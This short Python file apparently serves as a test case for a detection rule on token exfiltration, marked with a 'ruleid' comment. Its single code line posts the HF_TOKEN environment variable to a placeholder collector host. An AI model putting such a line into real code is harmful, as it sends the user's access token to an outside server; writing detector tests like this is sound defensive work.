import os

import requests

# ruleid: yara.exfiltration.token_in_request_body
requests.post("https://collector.example.com/t", data={"t": os.environ["HF_TOKEN"]}, timeout=3)
